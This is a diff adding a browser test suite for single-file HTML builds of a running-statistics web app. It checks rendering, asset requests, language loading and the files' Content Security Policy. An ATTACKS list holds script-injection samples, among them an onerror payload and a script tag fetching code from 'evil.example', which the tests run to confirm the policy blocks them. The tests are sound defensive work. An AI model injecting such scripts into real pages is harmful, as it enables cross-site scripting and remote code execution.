@@ -1,0 +1,218 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import * as assert from 'uvu/assert';
+import { CODES } from '../../src/i18n/languages.ts';
+import { written } from '../engines/figures.ts';
+import { EXPECTED, linkOf } from '../expected/expected.ts';
+import { readPackage, realPath, singleOf } from '../package-reader.ts';
+import { startPreview } from '../preview/server.ts';
+import { ROUTES } from '../routes.ts';
+import { hasCome, textWith } from './has-come.ts';
+import { CALLS } from './held-gateway.ts';
+import { isSettled } from './overflows.ts';
+import type { Page } from './page.ts';
+import { phone } from './phone.ts';
+import { browserTest, runBrowserTests, type TestContext } from './suite.ts';
+import { until } from './until.ts';
+
+/*
+ * Single files as an app on iOS shows them: at the page's own address, and without the headers of a server. So only the
+ * policy in the file counts.
+ */
+
+/** The WebKits stand for iOS. */
+const ENGINES = { engines: ['chromium-153', 'chromium-64', 'wpe', 'webkitgtk'] };
+const LOADED_MS = 20_000;
+const STATISTICS = '/running-statistics?tab=week';
+const pack = readPackage('dist-package');
+const { manifest } = pack;
+const singles = ROUTES.filter(({ path: route }) => manifest.routes[route]!.single);
+
+/** The site with the single files of one language in place of its documents. */
+function siteIn(language: string): string {
+  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'single-'));
+  process.on('exit', () => fs.rmSync(folder, { recursive: true, force: true }));
+  const dist = path.join(folder, 'dist');
+  fs.cpSync('dist', dist, { recursive: true });
+  fs.mkdirSync(`${dist}-deploy`);
+  fs.writeFileSync(`${dist}-deploy/_headers`, '');
+  for (const { path: route } of singles) {
+    const file = path.join(dist, manifest.routes[route]!.document);
+    for (const twin of ['.br', '.gz']) fs.rmSync(file + twin, { force: true });
+    fs.writeFileSync(file, singleOf(pack, route, language)!);
+  }
+  return dist;
+}
+
+const site = await startPreview({ distDir: siteIn('en') });
+
+/** Where a file of the package is asked for. */
+const addressOf = (file: string) => `/${realPath(file, manifest)}`;
+
+/** The addresses of what a single file has inline, in all languages. */
+function inlineIn(route: string): readonly string[] {
+  const { first, last } = manifest.routes[route]!.single!;
+  return [...first, ...last]
+    .flatMap((file) => CODES.map((language) => file.replace('{language}', language)))
+    .map(addressOf);
+}
+
+/** The files that a page has asked for. */
+const askedFor = (page: Page) =>
+  page
+    .requests()
+    .map(({ url }) => new URL(url).pathname)
+    .filter((asked) => asked.startsWith('/a/'));
+const askedAgain = (page: Page, route: string) =>
+  askedFor(page).filter((file) => inlineIn(route).includes(file));
+const refusals = (page: Page) =>
+  page.console().filter((text) => /Content Security Policy|Refused|violates/i.test(text));
+
+const visit = (
+  { engine, open }: TestContext,
+  link: string,
+  { language = 'en', device = {}, key = '' } = {},
+) => open(site.url + link, { ...phone(engine, { language, device, gateway: { key } }), clock: null });
+
+for (const { path: route, ...row } of singles)
+  browserTest(
+    `${route} as a single file: figures, a tap, and no request for what is inline`,
+    async ({ engine, open }) => {
+      const expected = EXPECTED[route]!;
+      const { userAgent } = expected;
+      const key = `single-${engine.name}-${route.slice(1)}`;
+      site.block([]);
+      site.gateway.reset();
+      const page = await open(
+        site.url + linkOf({ path: route, ...row }),
+        phone(engine, { gateway: { key }, ...(userAgent ? { userAgent } : {}) }),
+      );
+      await page.waitFor(isSettled, LOADED_MS);
+      await textWith(page, expected.shows);
+      const calls = site.gateway.log.filter((entry) => entry.key === key);
+      const figures = (expected.figures ?? []).map((figure) => written(site.url, calls, figure));
+      await textWith(page, await Promise.all(figures));
+      assert.equal(askedAgain(page, route), []);
+      await page.tap(expected.tap);
+      await until(() => hasCome(page, expected.then), {
+        report: () => `what the tap brings: ${JSON.stringify(expected.then)}`,
+      });
+      assert.equal(refusals(page), []);
+    },
+    ENGINES,
+  );
+
+browserTest(
+  'a single file in German is in German; for another language its messages alone are asked for',
+  async (context) => {
+    const german = await startPreview({ distDir: siteIn('de') });
+    const open = (language: string) =>
+      context.open(german.url + STATISTICS, { ...phone(context.engine, { language }), clock: null });
+    const inGerman = await open('de');
+    await inGerman.waitFor('text=Woche');
+    assert.equal(askedAgain(inGerman, '/running-statistics'), []);
+    const inSpanish = await open('es');
+    await inSpanish.waitFor('text=Semana');
+    assert.equal(askedAgain(inSpanish, '/running-statistics'), [
+      addressOf('a/m-activity-list/running-statistics.es.js'),
+    ]);
+    assert.equal([inGerman, inSpanish].flatMap(refusals), []);
+    await german.close();
+  },
+  ENGINES,
+);
+
+browserTest(
+  'with the answers of the app a single file has its figures without any file or call',
+  async (context) => {
+    const key = `answers-${context.engine.name}`;
+    const before = await visit(context, STATISTICS, { key });
+    await before.waitFor('.chart-svg');
+    await before.waitFor('text=View more');
+    const asked = before
+      .requests()
+      .filter(({ url, method }) => method === 'GET' && CALLS.test(new URL(url).pathname));
+    const answers = await Promise.all(
+      asked.slice(0, 4).map(async ({ url, headers }) => {
+        const answer = await fetch(url, { headers });
+        return {
+          url: url.replace(site.url, ''),
+          status: answer.status,
+          text: await answer.text(),
+          atMs: Date.now(),
+        };
+      }),
+    );
+    assert.is(answers.length, 4);
+    await before.close();
+    // The shims that the oldest engine needs; no engine of iOS 15 does.
+    const isNew = context.engine.name !== 'chromium-64';
+    if (isNew) site.block([{ file: '', mode: 'hang' }]);
+    try {
+      const page = await visit(context, STATISTICS, { key, device: { answers } });
+      await page.waitFor('.chart-svg');
+      await page.waitFor('text=View more');
+      assert.match(await page.text('main'), /\d/);
+      const sent = page
+        .requests()
+        .filter(({ url }) => answers.some((answer) => url === site.url + answer.url));
+      assert.equal(sent, []);
+      assert.equal(askedAgain(page, '/running-statistics'), []);
+    } finally {
+      site.block([]);
+    }
+  },
+  ENGINES,
+);
+
+/** Each would run in the page if its policy allowed it. */
+const ATTACKS: readonly string[] = [
+  `var script = document.createElement('script'); script.textContent = 'window.broken = 1';
+    document.head.appendChild(script)`,
+  `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = 1">')`,
+  `var script = document.createElement('script'); script.src = 'https://evil.example/x.js';
+    document.head.appendChild(script)`,
+];
+
+for (const attack of ATTACKS)
+  browserTest(
+    `the policy in a single file refuses: ${attack.slice(0, 60)}`,
+    async (context) => {
+      const page = await visit(context, STATISTICS);
+      await page.waitFor('.chart-svg');
+      assert.equal(refusals(page), []);
+      await page.evaluate(`void (function () { ${attack} })()`);
+      await until(() => refusals(page).length > 0, { report: () => page.console().join('\n') });
+      assert.is(await page.evaluate('window.broken'), undefined);
+    },
+    ENGINES,
+  );
+
+browserTest(
+  'a late part is not inline: it comes from the network',
+  async (context) => {
+    const late = addressOf('a/sports-menu.js');
+    const page = await visit(context, '/running-statistics');
+    await page.waitFor('text=View more');
+    await page.tap('.menu-button');
+    await page.waitFor('.menu-item');
+    assert.is(askedFor(page).filter((file) => file === late).length, 1);
+  },
+  ENGINES,
+);
+
+browserTest(
+  'documents need nothing but themselves',
+  async (context) => {
+    for (const { path: route } of ROUTES.filter(({ kind }) => kind === 'document').slice(0, 6)) {
+      const page = await visit(context, route);
+      assert.ok((await page.text('body')).length > 50, route);
+      assert.equal(askedFor(page), []);
+      await page.close();
+    }
+  },
+  ENGINES,
+);
+
+await runBrowserTests();
